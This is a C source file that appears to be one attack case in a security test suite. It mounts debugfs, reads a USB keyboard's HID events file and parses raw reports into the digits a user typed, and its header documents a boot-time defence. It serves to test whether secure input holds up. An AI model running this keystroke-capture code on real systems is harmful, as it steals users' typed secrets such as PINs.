// SPDX-License-Identifier: Apache-2.0
/*
 * Reads a USB keyboard's events from debugfs (hid/DEVICE/events), which lockdown leaves
 * readable.
 *
 * attack: debugfs_hid_events
 * class: input
 * when: before
 * judge: keys
 * unprotected: module
 * devices: qemu-xhci usb-kbd
 * defence: boot
 * why: debugging files are fed before the input core; debugfs=off on the boot line, and the
 *	REE cannot mount
 */
#include <errno.h>
#include <fcntl.h>
#include <glob.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include "digits.h"
#include "report.h"

#define FOLDER	"/tmp/debug"
#define WORD	"(unnumbered) ="

static int open_events(void)
{
	glob_t found;
	int fd = -1;

	mkdir(FOLDER, 0700);
	if (mount("none", FOLDER, "debugfs", 0, NULL))
		attack_note("debugfs: %s", strerror(errno));
	if (glob(FOLDER "/hid/*/events", 0, NULL, &found))
		return -1;
	fd = open(found.gl_pathv[0], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	globfree(&found);
	return fd;
}

/*
 * Lines like "report (size 8) (unnumbered) =  00 00 1e 00 00 00 00 00": modifiers, nothing,
 * the first key. What stands below them in words depends on the kernel.
 */
static void parse(const char *text, struct digits *d)
{
	unsigned int usage;

	while ((text = strstr(text, WORD))) {
		text += strlen(WORD);
		if (sscanf(text, " %*2x %*2x %2x", &usage) == 1)
			digits_add(d, digits_of_usage(usage));
	}
}

static void collect(int fd, struct digits *d)
{
	struct pollfd pollfd = { .fd = fd, .events = POLLIN };
	char text[4096];
	ssize_t got;

	if (poll(&pollfd, 1, 200) <= 0)
		return;
	/* Wait for the rest of what belongs together. */
	attack_wait(20);
	got = read(fd, text, sizeof(text) - 1);
	text[got > 0 ? got : 0] = '\0';
	parse(text, d);
}

int main(void)
{
	struct digits digits = { 0 };
	int fd;

	attack_init();
	fd = open_events();
	attack_ready();
	if (fd < 0)
		attack_failed("there are no debugging files of HID devices");
	while (!attack_stopping())
		collect(fd, &digits);
	close(fd);
	umount2(FOLDER, MNT_DETACH);
	attack_digits(digits.text);
	attack_failed("these are all the digits it saw");
}
